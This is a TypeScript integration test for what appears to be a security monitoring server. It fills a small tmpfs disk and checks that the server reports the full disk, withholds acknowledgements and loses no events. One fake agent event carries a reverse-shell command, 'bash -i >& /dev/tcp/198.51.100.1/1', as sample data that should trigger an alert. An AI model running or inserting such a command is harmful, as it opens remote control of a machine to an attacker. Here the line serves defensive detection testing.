/** The disk of a real server process fills up and is emptied again. Needs root, for a small disk in a mount namespace of its own. */
import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { appendFileSync, mkdirSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { test } from 'node:test'
import { setTimeout as wait } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { enrolAgent, TestAgent } from './testing/test-agent.ts'
import { TestConsole } from './testing/test-console.ts'
import { temporaryDirectory, writeTestModels } from './testing/test-server.ts'

const main = fileURLToPath(new URL('./testing/server-process.ts', import.meta.url))
const root = process.getuid?.() === 0

test('a full disk stops acknowledgements, says so, and nothing is lost', {
  skip: root ? false : 'needs root',
}, async () => {
  const directory = temporaryDirectory()
  const disk = join(directory, 'disk')
  mkdirSync(disk)
  writeTestModels(join(directory, 'models'))
  const mount = 'mount -t tmpfs -o size=6m tmpfs "$0" && exec "$@"'
  const server = [main, '--state', join(disk, 'state'), '--models', join(directory, 'models'), '--log', 'none']
  const child = spawn(
    'unshare',
    [
      ...['--mount', 'sh', '-c', mount, disk, process.execPath, '--disable-warning=ExperimentalWarning', ...server],
      ...['--listen', '127.0.0.1:0', '--agent-listen', '127.0.0.1:0', '--indicators', directory],
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  )
  try {
    const [line] = await once(createInterface({ input: child.stdout }), 'line')
    const { consoleUrl, token, firstUser } = JSON.parse(line)
    const browser = new TestConsole(consoleUrl)
    await browser.begin(firstUser)
    const agent = new TestAgent(await enrolAgent(token))
    await agent.connect()
    await agent.deliver(1, [agent.started(1, 'ls')])

    const filling = `/proc/${child.pid}/root${join(disk, 'filling')}`
    assert.throws(() => {
      for (;;) appendFileSync(filling, Buffer.alloc(4096))
    }, /ENOSPC/)
    // Large enough not to fit into what is left of a page.
    const noise = Array.from({ length: 400 }, (_, index) =>
      agent.started(10 + index, `ls ${Math.random()} ${Math.random()}`),
    )
    agent.sendBatch(2, [...noise, agent.started(2, 'bash -i >& /dev/tcp/198.51.100.1/1')])
    await wait(1500)
    assert.equal(agent.acknowledged, 1)
    const ready = await browser.fetch('GET', '/health/ready')
    assert.deepEqual([ready.status, ready.body.problems], [503, ['state.disk-full']])
    const [banner] = (await browser.call('listBanners')).body.items
    assert.match(banner.reason, /^No space is left for .* Free some space: the server goes on by itself\.$/)
    const refused = await browser.call('createEnrolmentToken', { body: {} })
    assert.deepEqual([refused.status, refused.body.code], [503, 'state.disk-full'])

    rmSync(filling)
    await agent.until(() => agent.acknowledged === 2)
    assert.equal((await browser.fetch('GET', '/health/ready')).status, 200)
    const page = (await browser.call('listAlerts')).body
    assert.deepEqual([page.total, page.items[0].count], [1, 1])
    assert.equal((await browser.call('getAsset', { id: agent.enrolment.assetId })).body.eventsReceived, 402)
    agent.cut()
  } finally {
    child.kill('SIGTERM')
    await once(child, 'exit')
    rmSync(directory, { recursive: true })
  }
})
